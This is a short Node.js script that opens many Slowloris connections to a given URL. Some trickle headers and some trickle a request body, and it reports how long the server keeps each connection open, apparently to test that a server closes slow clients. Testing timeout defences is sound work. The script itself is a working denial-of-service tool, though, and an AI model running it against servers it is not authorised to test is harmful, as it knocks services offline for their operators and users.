// Slowloris clients in their own process (so their timers do not share the probe's event loop):
// `node attackers.mjs URL COUNT`; half trickle headers, half a body, a few bytes every 150 ms, and
// never finish. Prints one JSON line when every connection has been closed by the server.
import { connect } from 'node:net';

const [url, countText] = process.argv.slice(2);
const target = new URL(url);
const count = Number(countText);

function slowloris(phase) {
  return new Promise((resolve) => {
    const started = performance.now();
    let text = '';
    let timer;
    const socket = connect(Number(target.port), target.hostname, () => {
      socket.write(
        phase === 'headers'
          ? 'POST /v1/messages HTTP/1.1\r\nHost: x\r\n'
          : 'POST /v1/messages HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 5000\r\n\r\n{"model":"auto",',
      );
      timer = setInterval(() => socket.write(phase === 'headers' ? 'x-a: b\r\n' : ' '), 150);
    });
    socket.on('data', (chunk) => (text += chunk));
    socket.on('error', () => {});
    socket.on('close', () => {
      clearInterval(timer);
      resolve({ phase, openMs: performance.now() - started, status: text.slice(9, 12) });
    });
    setTimeout(() => socket.destroy(), 30_000).unref();
  });
}

const results = await Promise.all(
  Array.from({ length: count }, (_, index) => slowloris(index % 2 ? 'body' : 'headers')),
);
const max = (phase) =>
  Math.max(...results.filter((entry) => entry.phase === phase).map((entry) => entry.openMs));
process.stdout.write(
  `${JSON.stringify({
    headersMaxOpenMs: Math.round(max('headers')),
    bodyMaxOpenMs: Math.round(max('body')),
    statuses: results.reduce(
      (all, entry) => ({ ...all, [entry.status]: (all[entry.status] ?? 0) + 1 }),
      {},
    ),
  })}\n`,
);
